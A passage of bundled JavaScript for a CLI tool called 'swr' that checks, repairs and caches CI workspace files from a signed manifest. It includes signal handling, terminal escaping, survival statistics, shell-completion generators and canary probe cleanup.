    const note = (what, err) => opts.onNote?.(`cache ${what}: ${err instanceof Error ? err.message : String(err)}`);
    return {
        async restore(abs, key, restoreKeys) {
            try {
                const cache = await client();
                const matched = await quietly(() => cache.restoreCache([spell(abs)], key, [...restoreKeys]));
                return matched === undefined ? undefined : { matchedKey: matched, exact: matched === key };
            }
            catch (err) {
                note(`restore of ${key} failed`, err);
                return undefined;
            }
        },
        async lookup(abs, key) {
            try {
                const cache = await client();
                return ((await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }))) ===
                    key);
            }
            catch (err) {
                note(`lookup of ${key} failed`, err);
                return false;
            }
        },
        async save(abs, key) {
            try {
                const cache = await client();
                // The client reports "already exists" and "unreachable" alike (-1): ask first.
                const existing = await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }));
                if (existing === key)
                    return 'exists';
                const id = await quietly(() => cache.saveCache([spell(abs)], key));
                return id === -1 ? 'failed' : 'saved';
            }
            catch (err) {
                const name = err instanceof Error ? err.name : '';
                if (name === 'ReserveCacheError' || /already exists/i.test(String(err)))
                    return 'exists';
                note(`save of ${key} failed`, err);
                return 'failed';
            }
        }
    };
}

;// CONCATENATED MODULE: ./src/cli/io.ts
/**
 * What a command may touch of the outside world, passed in so tests can run commands in-process
 * with their own streams and environment.
 */



/**
 * The commands that start processes of their own (recipes, smoke commands): on an interrupt they
 * stop them, report what was interrupted and exit 130 themselves.
 */
const OWN_INTERRUPT = new Set(['doctor', 'restore', 'selftest']);
function ownsInterrupt(argv) {
    return OWN_INTERRUPT.has(argv[2] ?? '') || argv.includes('--run-smoke');
}
/**
 * The real process: its streams, environment, and SIGINT/SIGTERM wired to an abort signal. Any
 * other command stops at once with 130: it starts nothing that could outlive it, its writes are
 * atomic, and what it holds (the workspace lock, a walk's temporary files) is let go by exit
 * handlers. A check of a large tree must not run on for seconds after Ctrl-C.
 */
function processIo(argv = process.argv) {
    const controller = new AbortController();
    const owns = ownsInterrupt(argv);
    const exitNow = (message, code) => {
        // As every error: with --json, stdout still ends with one JSON document.
        if (argv.includes('--json'))
            process.stdout.write(JSON.stringify({ schema: 'swr.error/1', error: message, exit_code: code }) + '\n');
        process.stderr.write(`swr: ${message}\n`);
        process.exit(code);
    };
    const onSignal = () => {
        if (!owns)
            exitNow('interrupted', EXIT.INTERRUPTED);
        controller.abort();
    };
    // once: a second Ctrl-C falls through to the default handler and ends swr at once. A closed
    // terminal or a dropped SSH session (SIGHUP) is an interrupt too: recipes are stopped first.
    process.once('SIGINT', onSignal);
    process.once('SIGTERM', onSignal);
    process.once('SIGHUP', onSignal);
    return {
        cwd: process.cwd(),
        env: process.env,
        home: external_node_os_default().homedir(),
        stdout: process.stdout,
        stderr: process.stderr,
        abort: controller.signal,
        stop: (message, code) => {
            if (!owns)
                exitNow(message, code);
            process.stderr.write(`swr: ${message}; stopping\n`);
            controller.abort();
        }
    };
}
/** Colour only on a terminal, never with NO_COLOR (any value) or --no-color. */
function useColor(io, flag) {
    return flag && io.stdout.isTTY === true && io.env.NO_COLOR === undefined && io.env.TERM !== 'dumb';
}
/** A control or bidi character anywhere in a chunk (the common case has none: pass it through). */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
/** What swr itself writes to a terminal: colour, line erase and carriage return (progress). */
// eslint-disable-next-line no-control-regex
const OWN_TTY = /(\x1b\[[0-9;]*m|\x1b\[K|\r|\n)/;
/**
 * A stream that shows every control character visibly (`\x1b`, `\r`, `\u202e`) except the line
 * breaks, and on a terminal swr's own colour and progress sequences. Untrusted strings are
 * escaped where they are formatted; this catches any that were not, so a file name can never
 * move the cursor, erase a line or recolour what follows.
 */
function guarded(stream) {
    const tty = stream.isTTY === true;
    return {
        ...(stream.isTTY !== undefined ? { isTTY: stream.isTTY } : {}),
        write(s) {
            if (typeof s !== 'string' || !CONTROL.test(s))
                return stream.write(s);
            const parts = tty ? s.split(OWN_TTY) : s.split(/(\n)/);
            return stream.write(parts.map((p, i) => (i % 2 === 1 ? p : escapeText(p))).join(''));
        }
    };
}
/** `io` with stderr (and stdout, unless it carries JSON) guarded. */
function guardedIo(io, json) {
    return { ...io, stdout: json ? io.stdout : guarded(io.stdout), stderr: guarded(io.stderr) };
}

;// CONCATENATED MODULE: ./src/cli/commands/repair.ts
/**
 * `swr restore` and `swr doctor`: the engine's repairManifest, printed as it goes. Exit 0 healthy
 * or healed, 1 damaged (dry run), 2 unrepairable or refused, 3 still damaged after repair, 130
 * interrupted.
 */












function repairCommand(mode, flags, io) {
    return withManifestLock(flags, io, () => repair(mode, flags, io));
}
async function repair(mode, flags, io) {
    const say = (s) => {
        if (!flags.json && !flags.quiet)
            io.stdout.write(s);
    };
    const m = loadManifest(manifestLocation(flags, io).file, {
        workspace: flags.workspace,
        cwd: io.cwd
    });
    return withWorkspaceLock(m.workspace, flags, io, () => repairLocked(mode, m, flags, io, say));
}
async function repairLocked(mode, m, flags, io, say) {
    const text = { color: useColor(io, flags.color), all: false };
    const cacheClient = cliCacheClient(m, io);
    const report = await repairManifest(m, {
        cacheClient,
        mode,
        version: VERSION,
        stateDir: stateDir(io),
        policy: buildPolicy(m, flags, io),
        rememberAccepted: flags.iTrustThisManifest === undefined,
        callerEnv: io.env,
        only: flags.only,
        dryRun: flags.dryRun,
        cache: flags.cache,
        jobs: flags.jobs,
        timeoutS: flags.timeout,
        quarantine: flags.quarantine,
        quarantineLimits: quarantineLimits(io.env),
        resume: flags.resume,
        abort: io.abort,
        hooks: {
            onCheck: (before, plan) => {
                // What the platform kept, before anything was repaired.
                if (flags.record)
                    recordCheck(before, m, io);
                const damaged = before.results.filter(f => f.status !== 'OK');
                say('== check ==\n');
                if (damaged.length > 0)
                    say(findingLines(damaged, text).join('\n') + '\n');
                say(`${before.summary.ok}/${before.summary.entries} healthy${damaged.length ? `, ${damaged.length} damaged (${before.diagnosis.signature})` : ''}\n`);
                if (damaged.length > 0)
                    say(`== plan ==\n${renderPlan(plan.waves, text)}`);
            },
            onGate: gate => {
                for (const w of gate.warnings)
                    io.stderr.write(`swr: warning: ${w}\n`);
                if (gate.allowed)
                    say(`== restore ==   (${gate.reason})\n`);
                else {
                    io.stderr.write(`swr: refusing to run restore recipes: ${gate.reason}\n`);
                    io.stderr.write('swr: review the manifest (its recipes are code), then sign it ("swr sign") or trust its signer ("swr trust add"); "swr verify" shows its digest\n');
                }
            },
            onResume: n => say(n > 0
                ? `resuming: ${n} entries were repaired by the interrupted run\n`
                : 'resume: no interrupted restore of this manifest to continue\n'),
            onLine: (id, line) => say(`  [${id}] ${line}\n`),
            onStep: r => say(renderStep(r, text)),
            onFinal: final => say(`== re-check ==\n${renderCheck(final, text)}`)
        }
    });
    if (cacheClient && report.repair.write_back.length > 0) {
        if (cacheReadOnly(io.env))
            say('cache: read-only mode (ACTIONS_CACHE_MODE=read): healed entries not saved\n');
        else {
            for (const w of report.repair.write_back) {
                const e = m.body.entries.find(x => x.id === w.id);
                if (!e)
                    continue;
                const saved = await cacheClient.save(resolveEntryPath(m.workspace, e.path), w.key);
                say(`cache: ${w.id} ${saved === 'saved' ? 'saved as' : saved === 'exists' ? 'already saved as' : 'could not be saved as'} ${w.key}\n`);
            }
        }
    }
    if (flags.json)
        io.stdout.write(JSON.stringify(report, null, 2) + '\n');
    return report.repair.exit_code;
}
/** The Actions cache when its service is reachable; otherwise cache sources are skipped, said once. */
function cliCacheClient(m, io) {
    if (cacheServiceAvailable(io.env)) {
        return actionsCacheClient({
            env: io.env,
            logToStderr: true,
            onNote: line => void io.stderr.write(`swr: ${line}\n`)
        });
    }
    if (m.body.entries.some(e => restoreSources(e).some(s => typeof s !== 'string'))) {
        io.stderr.write('swr: cache sources skipped: no Actions cache service here (ACTIONS_RESULTS_URL and ACTIONS_RUNTIME_TOKEN unset)\n');
    }
    return undefined;
}
/** SWR_QUARANTINE_KEEP_DAYS and SWR_QUARANTINE_MAX_MB, when set to a non-negative number. */
function quarantineLimits(env) {
    const num = (name) => {
        const v = env[name];
        if (v === undefined || v === '')
            return undefined;
        const n = Number(v);
        if (!Number.isFinite(n) || n < 0)
            throw new UsageError(`${name}=${v}: give a number of 0 or more`);
        return n;
    };
    const days = num('SWR_QUARANTINE_KEEP_DAYS');
    const mb = num('SWR_QUARANTINE_MAX_MB');
    return {
        ...(days !== undefined ? { keepMs: days * 86_400_000 } : {}),
        ...(mb !== undefined ? { totalBytes: mb * 1024 * 1024 } : {})
    };
}

;// CONCATENATED MODULE: ./src/cli/progress.ts
const GIB = 1024 ** 3;
const progress_MIB = 1024 ** 2;
function bytes(n) {
    return n >= GIB ? `${(n / GIB).toFixed(1)} GiB` : `${(n / progress_MIB).toFixed(0)} MiB`;
}
function startProgress(io, label, enabled) {
    if (!enabled || io.stderr.isTTY !== true)
        return { update: () => undefined, stop: () => undefined };
    const t0 = Date.now();
    let last = 0;
    let shown = false;
    return {
        update(done, total) {
            const now = Date.now();
            if (now - t0 < 1000 || now - last < 100)
                return;
            last = now;
            shown = true;
            const pct = total > 0 ? Math.floor((done / total) * 100) : 100;
            io.stderr.write(`\r${label}: ${bytes(done)} / ${bytes(total)} (${pct}%)   `);
        },
        stop() {
            if (shown)
                io.stderr.write('\r\x1b[K');
        }
    };
}

;// CONCATENATED MODULE: ./src/core/history/advice.ts

/** Only a pattern is worth a line: at least two losses, and at least 30% of the window. */
function isPattern(c) {
    return c.lost >= 2 && c.lost / c.of >= 0.3;
}
function historyAdvice(e, c) {
    if (!isPattern(c))
        return undefined;
    const ideas = [];
    if (e.tier > 0)
        ideas.push(`a lower tier than ${e.tier} so it is restored before what needs it`);
    if (!restoreSources(e).some(s => typeof s !== 'string'))
        ideas.push('a cache source ("restore": [{"cache": {...}}, ...]) so it comes back from the Actions cache');
    if (e.kind === 'file' && !e.escrow && e.expect.size <= 256 * 1024)
        ideas.push('escrow ("swr escrow --only ' + e.id + '") so it restores without a recipe');
    const base = `damaged in ${c.lost} of the last ${c.of} recorded checks: this platform does not keep it`;
    return ideas.length > 0 ? `${base}; consider ${ideas.join(', or ')}` : base;
}

;// CONCATENATED MODULE: ./src/core/history/context.ts
/**
 * Who made an observation: enough of the runner, job and machine to tell the platforms apart
 * when their survival differs. Built from an environment the shell passes in.
 */

const FROM_ENV = [
    ['runner_os', 'RUNNER_OS'],
    ['runner_name', 'RUNNER_NAME'],
    ['runner_arch', 'RUNNER_ARCH'],
    ['repository', 'GITHUB_REPOSITORY'],
    ['workflow', 'GITHUB_WORKFLOW'],
    ['job', 'GITHUB_JOB'],
    ['run_id', 'GITHUB_RUN_ID'],
    ['run_attempt', 'GITHUB_RUN_ATTEMPT']
];
function runContext(env) {
    const ctx = { platform: `${process.platform}-${process.arch}` };
    for (const [field, name] of FROM_ENV) {
        const v = env[name];
        if (v)
            ctx[field] = v.slice(0, 200);
    }
    if (!ctx.runner_name)
        ctx.host = external_node_os_default().hostname().slice(0, 200);
    return ctx;
}
/** One short label for tables: `Linux/runner-3`, `host.local`. */
function contextLabel(ctx) {
    if (ctx.runner_os || ctx.runner_name)
        return [ctx.runner_os, ctx.runner_name].filter(Boolean).join('/');
    return ctx.host ?? ctx.platform;
}

;// CONCATENATED MODULE: ./src/core/history/history.ts
/**
 * The history: one JSON line per observation (a canary read, a recorded check), in the private
 * state directory. Bounded: when the current file reaches its limit it becomes `history.1.jsonl`
 * (replacing the previous generation), so the history never grows without end and the newest
 * records are never the ones dropped. Appends use O_APPEND with one write per record, so
 * concurrent writers interleave whole lines; a line that does not parse is skipped on read.
 */




const HISTORY_FILE = 'history.jsonl';
const HISTORY_ROTATED = 'history.1.jsonl';
const history_DEFAULT_LIMITS = {
    maxRecords: 1000,
    maxBytes: 4 * 1024 * 1024
};
/** One check's record: the status of every entry it checked (for stats and `swr why`). */
function checkRecord(report, manifest, context) {
    return {
        v: 1,
        kind: 'check',
        time: report.timing.started,
        context,
        manifest: manifest.file,
        digest: manifest.digest,
        entries: Object.fromEntries(report.results.map(f => [f.id, f.status]))
    };
}
function countLines(file) {
    const buf = external_node_fs_default().readFileSync(file);
    let n = 0;
    for (let i = buf.indexOf(10); i !== -1; i = buf.indexOf(10, i + 1))
        n++;
    return n;
}
function rotateIfFull(dir, limits) {
    const file = external_node_path_default().join(dir, HISTORY_FILE);
    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
    if (!st)
        return;
    if (st.size < limits.maxBytes && countLines(file) < limits.maxRecords)
        return;
    external_node_fs_default().renameSync(file, external_node_path_default().join(dir, HISTORY_ROTATED));
}
function appendHistory(stateDir, record, limits = {}) {
    const l = { ...history_DEFAULT_LIMITS, ...limits };
    const dir = ensurePrivateDir(stateDir);
    rotateIfFull(dir, l);
    appendRecord(external_node_path_default().join(dir, HISTORY_FILE), JSON.stringify(record) + '\n', {
        create: true,
        mode: 0o600
    });
}
function isRecord(v) {
    const r = v;
    if (typeof r !== 'object' || r === null || r.v !== 1 || typeof r.time !== 'string')
        return false;
    if (Number.isNaN(Date.parse(r.time)))
        return false;
    if (r.kind === 'canary')
        return typeof r.classes === 'object' && typeof r.locations === 'object';
    if (r.kind === 'check')
        return typeof r.entries === 'object' && typeof r.manifest === 'string';
    return false;
}
function readHistory(stateDir) {
    const out = { records: [], skipped: 0 };
    for (const name of [HISTORY_ROTATED, HISTORY_FILE]) {
        let text;
        try {
            text = external_node_fs_default().readFileSync(external_node_path_default().join(stateDir, name), 'utf8');
        }
        catch {
            continue;
        }
        for (const line of text.split('\n')) {
            if (!line.trim())
                continue;
            try {
                const v = JSON.parse(line);
                if (isRecord(v))
                    out.records.push(v);
                else
                    out.skipped++;
            }
            catch {
                out.skipped++;
            }
        }
    }
    out.records.sort((a, b) => Date.parse(a.time) - Date.parse(b.time));
    return out;
}

;// CONCATENATED MODULE: ./src/core/history/wilson.ts
/**
 * The Wilson score interval for a binomial proportion: unlike the normal approximation it stays
 * inside [0, 1] and does not collapse to zero width at 0 or n successes, which is exactly where
 * survival data lives (a path kept in every one of 6 runs is not "certainly kept").
 */
/** z for a two-sided 95% interval. */
const Z95 = 1.959963984540054;
function wilson(successes, n, z = Z95) {
    if (!Number.isInteger(successes) ||
        !Number.isInteger(n) ||
        n < 0 ||
        successes < 0 ||
        successes > n)
        throw new RangeError(`wilson: need 0 <= successes <= n, got ${successes} of ${n}`);
    if (n === 0)
        return { low: 0, high: 1 };
    const p = successes / n;
    const z2 = z * z;
    const centre = p + z2 / (2 * n);
    const spread = z * Math.sqrt((p * (1 - p)) / n + z2 / (4 * n * n));
    const denom = 1 + z2 / n;
    // Clamped to the rate as well as to [0, 1]: at 0 or n successes the formula's bound equals the
    // rate exactly, and floating point must not put it a rounding step on the wrong side.
    return {
        low: successes === 0 ? 0 : Math.max(0, Math.min(p, (centre - spread) / denom)),
        high: successes === n ? 1 : Math.min(1, Math.max(p, (centre + spread) / denom))
    };
}

;// CONCATENATED MODULE: ./src/core/history/stats.ts
/**
 * Survival statistics from the history: per canary class, per canary location and per manifest
 * entry, the share of runs that kept it whole with its 95% Wilson interval and the number of runs
 * observed (one per reading: probes of one reading are not independent), plus each key's
 * recent trend (newest first) and the survival of every recorded run for charts.
 */


const STATS_SCHEMA = 'swr.stats/1';
const TREND_RUNS = 10;
function mark(survived, n) {
    return survived === n ? 'kept' : survived === 0 ? 'lost' : 'partial';
}
function observe(map, key, survived, n, time) {
    if (n === 0)
        return;
    const a = map.get(key) ?? { n: 0, survived: 0, probes: 0, intact: 0, marks: [], last: time };
    const m = mark(survived, n);
    a.n += 1;
    a.survived += m === 'kept' ? 1 : 0;
    a.probes += n;
    a.intact += survived;
    a.marks.push(m);
    a.last = time;
    map.set(key, a);
}
function rows(map) {
    return ([...map]
        .map(([key, a]) => {
        const ci = wilson(a.survived, a.n);
        return {
            key,
            n: a.n,
            survived: a.survived,
            probes: a.probes,
            probes_intact: a.intact,
            rate: a.survived / a.n,
            low: ci.low,
            high: ci.high,
            trend: a.marks.slice(-TREND_RUNS).reverse(),
            last_seen: a.last
        };
    })
        // What needs attention first: lowest survival, then fewest observations, then name.
        .sort((x, y) => x.rate - y.rate || x.n - y.n || x.key.localeCompare(y.key)));
}
const total = (t) => t.intact + t.altered + t.lost;
/** Records must be oldest first (as readHistory returns them). */
function computeStats(records) {
    const classes = new Map();
    const locations = new Map();
    const entries = new Map();
    const runs = [];
    for (const r of records) {
        if (r.kind === 'canary') {
            let kept = 0;
            let all = 0;
            for (const [k, t] of Object.entries(r.classes)) {
                observe(classes, k, t.intact, total(t), r.time);
                kept += t.intact;
                all += total(t);
            }
            for (const [k, t] of Object.entries(r.locations))
                observe(locations, k, t.intact, total(t), r.time);
            if (all > 0)
                runs.push({
                    time: r.time,
                    kind: 'canary',
                    survival: kept / all,
                    label: contextLabel(r.context)
                });
        }
        else {
            const statuses = Object.entries(r.entries);
            for (const [id, status] of statuses)
                observe(entries, id, status === 'OK' ? 1 : 0, 1, r.time);
            const ok = statuses.filter(([, s]) => s === 'OK').length;
            if (statuses.length > 0)
                runs.push({
                    time: r.time,
                    kind: 'check',
                    survival: ok / statuses.length,
                    label: contextLabel(r.context)
                });
        }
    }
    const stats = {
        schema: STATS_SCHEMA,
        records: records.length,
        canary_runs: records.filter(r => r.kind === 'canary').length,
        check_runs: records.filter(r => r.kind === 'check').length,
        classes: rows(classes),
        locations: rows(locations),
        entries: rows(entries),
        runs
    };
    if (records.length > 0) {
        stats.first = records[0].time;
        stats.last = records[records.length - 1].time;
    }
    return stats;
}
/** How often `id` was damaged in its last `window` recorded checks (for `swr why`). */
function recentLosses(records, id, window = TREND_RUNS) {
    const seen = records.flatMap(r => (r.kind === 'check' && id in r.entries ? [r.entries[id]] : []));
    const last = seen.slice(-window);
    return { lost: last.filter(s => s !== 'OK').length, of: last.length };
}

;// CONCATENATED MODULE: ./src/cli/commands/check.ts
/** `swr check` and `swr why`: verify read-only, print the findings, exit 0 healthy / 1 damaged. */















/** One history line: this run's status of every entry checked (for "swr stats" and "swr why"). */
function recordCheck(report, m, io) {
    appendHistory(stateDir(io), checkRecord(report, m, runContext(io.env)), historyLimits(io));
}
/** For each damaged entry with a pattern of losses in the history, what to change. */
function historyNotes(report, m, io) {
    const records = readHistory(stateDir(io)).records.filter(r => r.kind === 'check' && r.manifest === m.file);
    const notes = new Map();
    for (const f of report.results) {
        if (f.status === 'OK')
            continue;
        const entry = m.body.entries.find(e => e.id === f.id);
        const advice = entry && historyAdvice(entry, recentLosses(records, f.id));
        if (advice)
            notes.set(f.id, advice);
    }
    return notes;
}
async function runChecked(flags, io, command) {
    const located = manifestLocation(flags, io);
    const manifest = loadManifest(located.file, { workspace: flags.workspace, cwd: io.cwd });
    const progress = startProgress(io, 'hashing', !flags.json && !flags.quiet);
    try {
        const report = await checkManifest(manifest, {
            only: flags.only,
            deep: flags.deep,
            metaOnly: flags.meta,
            cache: flags.cache,
            jobs: flags.jobs,
            stateDir: stateDir(io),
            version: VERSION,
            command,
            onProgress: progress.update
        });
        return { report, manifest };
    }
    finally {
        progress.stop();
    }
}
async function checkCommand(flags, io) {
    const checked = await runChecked(flags, io, 'check');
    let report = checked.report;
    let refused = false;
    if (flags.runSmoke) {
        // Smoke commands are manifest code: the gate decides, as for recipes.
        const m = checked.manifest;
        const gate = await decide(gateInput(m), buildPolicy(m, flags, io));
        for (const w of gate.warnings)
            io.stderr.write(`swr: warning: ${w}\n`);
        const smoked = await runSmokes(m, report.results, gate, io.env, io.abort);
        const rebuilt = buildReport({
            command: 'check',
            version: VERSION,
            manifest: m,
            findings: smoked.findings,
            options: report.options,
            started: new Date(report.timing.started),
            ms: Date.now() - Date.parse(report.timing.started)
        });
        report = { ...rebuilt, smoke: smoked.smoke };
        refused = !gate.allowed;
        if (refused)
            io.stderr.write(`swr: smoke commands not run: ${gate.reason}\n`);
    }
    if (flags.cacheLookup) {
        const client = cliCacheClient(checked.manifest, io);
        if (client) {
            const entries = selectEntries(checked.manifest.body.entries, flags.only);
            report = {
                ...report,
                cache_lookup: await lookupSavedStates(checked.manifest, entries, client)
            };
            if (!flags.json) {
                for (const l of report.cache_lookup ?? [])
                    io.stdout.write(`cache ${l.available ? 'saved    ' : 'not saved'} ${l.id}  (${l.key})\n`);
            }
        }
        else
            io.stderr.write('swr: --cache-lookup: no Actions cache service here (ACTIONS_RESULTS_URL and ACTIONS_RUNTIME_TOKEN unset)\n');
    }
    if (flags.record)
        recordCheck(report, checked.manifest, io);
    if (flags.json)
        io.stdout.write(JSON.stringify(report, null, 2) + '\n');
    else if (!flags.quiet || report.verdict !== 'healthy') {
        io.stdout.write(renderCheck(report, { color: useColor(io, flags.color), all: flags.all === true }));
    }
    if (refused)
        return EXIT.UNREPAIRABLE;
    return report.verdict === 'healthy' ? EXIT.HEALTHY : EXIT.DAMAGED;
}
async function whyCommand(flags, io) {
    const { report, manifest } = await runChecked(flags, io, 'why');
    if (flags.json) {
        io.stdout.write(JSON.stringify(report, null, 2) + '\n');
    }
    else {
        const notes = new Map(manifest.body.entries.flatMap(e => (e.note ? [[e.id, e.note]] : [])));
        io.stdout.write(renderWhy(report, { color: useColor(io, flags.color), all: false }, notes, historyNotes(report, manifest, io)));
    }
    return report.verdict === 'healthy' ? EXIT.HEALTHY : EXIT.DAMAGED;
}

;// CONCATENATED MODULE: ./src/cli/commands/completion.ts

const SHELLS = ['bash', 'zsh', 'fish'];
function optionsOf(cmd) {
    return cmd.options
        .filter(o => !o.hidden)
        .map(o => ({
        long: o.long,
        short: o.short,
        description: o.description,
        takesValue: o.required || o.optional
    }));
}
/** Every command reachable from the root, aliases included as their own paths. */
function walk(root) {
    const nodes = [];
    const visit = (cmd, at) => {
        const visible = cmd.commands.filter(c => !c._hidden);
        nodes.push({
            path: at,
            description: cmd.description(),
            options: optionsOf(cmd),
            subcommands: visible.flatMap(c => [c.name(), ...c.aliases()].map(name => ({ name, description: c.description() })))
        });
        for (const c of visible)
            for (const name of [c.name(), ...c.aliases()])
                visit(c, [...at, name]);
    };
    visit(root, []);
    return nodes;
}
/** POSIX single quotes: the only character that needs care inside them is the quote itself. */
function sq(s) {
    return `'${s.replace(/'/g, `'\\''`)}'`;
}
/** A description short enough for a completion menu: up to the first clause, at most 70 chars. */
function summary(s) {
    const line = s.split('\n')[0] ?? '';
    const cut = line.search(/[:;(]/);
    const text = (cut > 20 ? line.slice(0, cut) : line).trim();
    if (text.length <= 70)
        return text;
    return text.slice(0, text.lastIndexOf(' ', 67)) + '...';
}
function flagsOf(node) {
    return node.options.flatMap(o => [o.long, o.short].filter((f) => !!f));
}
function valueFlagsOf(node) {
    return node.options
        .filter(o => o.takesValue)
        .flatMap(o => [o.long, o.short].filter((f) => !!f));
}
/**
 * bash: the command path is the leading words that name subcommands; after it, options of that
 * command, and file names after an option that takes a value or for positional arguments.
 */
function bash(nodes) {
    const cases = nodes.map(n => {
        const subs = n.subcommands.map(s => s.name).join(' ');
        const flags = [...flagsOf(n), '--help'].join(' ');
        return `    ${sq(n.path.join(' '))}) subs=${sq(subs)}; flags=${sq(flags)}; valued=${sq(valueFlagsOf(n).join(' '))} ;;`;
    });
    return `# swr completion for bash: eval "$(swr completion bash)" in ~/.bashrc
_swr_complete() {
  local cur=\${COMP_WORDS[COMP_CWORD]} prev=\${COMP_WORDS[COMP_CWORD-1]}
  local path="" i w subs flags valued next
  for ((i = 1; i < COMP_CWORD; i++)); do
    w=\${COMP_WORDS[i]}
    [[ $w == -* ]] && continue
    next="\${path:+$path }$w"
    _swr_node "$next" || break
    path=$next
  done
  _swr_node "$path"
  if [[ -n $prev && " $valued " == *" $prev "* ]]; then
    COMPREPLY=($(compgen -f -- "$cur"))
  elif [[ $cur == -* ]]; then
    COMPREPLY=($(compgen -W "$flags" -- "$cur"))
  elif [[ -n $subs ]]; then
    COMPREPLY=($(compgen -W "$subs" -- "$cur"))
  else
    COMPREPLY=($(compgen -f -- "$cur"))
  fi
  return 0
}
_swr_node() {
  subs="" flags="" valued=""
  case "$1" in
${cases.join('\n')}
    *) return 1 ;;
  esac
}
complete -o filenames -F _swr_complete swr
`;
}
/** zsh: the bash function through zsh's own bash-completion bridge, which ships with zsh. */
function zsh(nodes) {
    return `#compdef swr
# swr completion for zsh: eval "$(swr completion zsh)" in ~/.zshrc
(( $+functions[compdef] )) || { autoload -Uz compinit && compinit }
autoload -U +X bashcompinit && bashcompinit
${bash(nodes).split('\n').slice(1).join('\n')}`;
}
/** fish: one `complete` line per subcommand and option, with its description. */
function fish(nodes) {
    const lines = ['# swr completion for fish: swr completion fish | source'];
    for (const n of nodes) {
        // The condition: exactly this path has been typed, and nothing deeper.
        const seen = n.path.map(p => `__fish_seen_subcommand_from ${sq(p)}`);
        const deeper = n.subcommands.length
            ? [`not __fish_seen_subcommand_from ${n.subcommands.map(s => sq(s.name)).join(' ')}`]
            : [];
        const cond = n.path.length === 0 ? ['__fish_use_subcommand'] : [...seen, ...deeper];
        const when = sq(cond.join('; and '));
        for (const s of n.subcommands)
            lines.push(`complete -c swr -n ${when} -f -a ${sq(s.name)} -d ${sq(summary(s.description))}`);
        for (const o of n.options) {
            const parts = ['complete -c swr -n', when];
            if (o.long)
                parts.push('-l', sq(o.long.replace(/^--/, '')));
            if (o.short)
                parts.push('-s', sq(o.short.replace(/^-/, '')));
            if (o.takesValue)
                parts.push('-r', '-F');
            parts.push('-d', sq(summary(o.description)));
            lines.push(parts.join(' '));
        }
    }
    return lines.join('\n') + '\n';
}
function completionScript(program, shell) {
    const nodes = walk(program);
    switch (shell) {
        case 'bash':
            return bash(nodes);
        case 'zsh':
            return zsh(nodes);
        case 'fish':
            return fish(nodes);
        default:
            throw new SwrError(`completion: unknown shell "${shell.slice(0, 20)}" (choose ${SHELLS.join(', ')})`, EXIT.BAD_MANIFEST);
    }
}

;// CONCATENATED MODULE: ./src/core/canary/anchor.ts
/**
 * Where a probe lives, said relative to a place that has another absolute path on the next runner:
 * the workspace (GITHUB_WORKSPACE moves between runners and checkouts), the home directory or the
 * temp directory. A ledger planted on one machine and read on another still finds its probes.
 */

function inside(dir, abs) {
    const rel = external_node_path_default().relative(dir, abs);
    if (rel === '')
        return '';
    if (rel.startsWith('..') || external_node_path_default().isAbsolute(rel))
        return undefined;
    return rel.split((external_node_path_default()).sep).join('/');
}
/** The workspace first: a workspace inside $HOME is still described by the workspace. */
function anchor_anchor(abs, anchors) {
    for (const name of ['workspace', 'home', 'tmp']) {
        const rel = inside(anchors[name], abs);
        if (rel !== undefined)
            return { anchor: name, rel };
    }
    return { anchor: 'abs', rel: external_node_path_default().resolve(abs) };
}
function resolveAnchored(a, anchors) {
    if (a.anchor === 'abs')
        return a.rel;
    return a.rel === '' ? anchors[a.anchor] : external_node_path_default().join(anchors[a.anchor], ...a.rel.split('/'));
}
/** `~/x`, `$TMPDIR/x`, `x` (workspace) or the absolute path: short and unambiguous in reports. */
function showAnchored(a) {
    switch (a.anchor) {
        case 'workspace':
            return a.rel === '' ? '.' : a.rel;
        case 'home':
            return a.rel === '' ? '~' : `~/${a.rel}`;
        case 'tmp':
            return a.rel === '' ? '$TMPDIR' : `$TMPDIR/${a.rel}`;
        case 'abs':
            return a.rel;
    }
}
/**
 * For tables: a 255-byte probe name or a 20-level path would push every column off the screen,
 * so long names keep their head and byte count, and deep paths their two ends.
 */
function abbreviate(p) {
    const segs = p
        .split('/')
        .map(seg => Buffer.byteLength(seg) > 60 ? `${seg.slice(0, 40)}…(${Buffer.byteLength(seg)} bytes)` : seg);
    return segs.length > 6 ? [...segs.slice(0, 2), '…', ...segs.slice(-2)].join('/') : segs.join('/');
}

;// CONCATENATED MODULE: ./src/core/canary/clean.ts
/**
 * Removing exactly what a planting made: each probe only while it is still the kind of thing that
 * was planted (a probe name now holding a user's directory is left alone), then the directories
 * the planting created, deepest first, only when empty.
 */




/**
 * Where an anchored path is, resolved without following a symlink below its anchor (a probe's
 * directory swapped for a link to elsewhere is not acted on); an absolute one (an --at path
 * outside the workspace) must at least sit in a directory that is not a symlink.
 */
function locate(a, anchors) {
    if (a.anchor !== 'abs')
        return resolveNoFollow(anchors[a.anchor], a.rel);
    const abs = resolveAnchored(a, anchors);
    if (external_node_fs_default().lstatSync(external_node_path_default().dirname(abs), { throwIfNoEntry: false })?.isSymbolicLink())
        throw new SymlinkRefusal(external_node_path_default().dirname(abs), 'is a symlink; not following it');
    return abs;
}
function plantedKind(p) {
    return p.expect.type === 'hardlink' ? 'file' : p.expect.type;
}
function removeIfPlanted(abs, kind, shown, out) {
    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
    if (!st)
        return;
    const now = st.isSymbolicLink()
        ? 'symlink'
        : st.isDirectory()
            ? 'dir'
            : st.isFile()
                ? 'file'
                : 'other';
    if (now !== kind) {
        out.kept.push({ path: shown, why: `now a ${now}, not the ${kind} that was planted` });
        return;
    }
    try {
        if (kind === 'dir')
            external_node_fs_default().rmdirSync(abs);
        else
            external_node_fs_default().unlinkSync(abs);
        out.removed.push(shown);
    }
    catch (e) {
        out.kept.push({ path: shown, why: e.code ?? String(e) });
    }
}
function cleanLedger(ledger, anchors) {
    const out = { removed: [], kept: [] };
    // Links first, then files, then the empty directory a link points at.
    const order = (p) => p.expect.type === 'symlink' ? 0 : p.expect.type === 'dir' ? 2 : 1;
    for (const p of [...ledger.probes].sort((a, b) => order(a) - order(b))) {
        let abs;
        try {
            abs = locate(p.path, anchors);
        }
        catch (e) {
            if (!(e instanceof SymlinkRefusal))
                throw e;
            out.kept.push({ path: showAnchored(p.path), why: e.message });
            continue;
        }
        removeIfPlanted(abs, plantedKind(p), showAnchored(p.path), out);
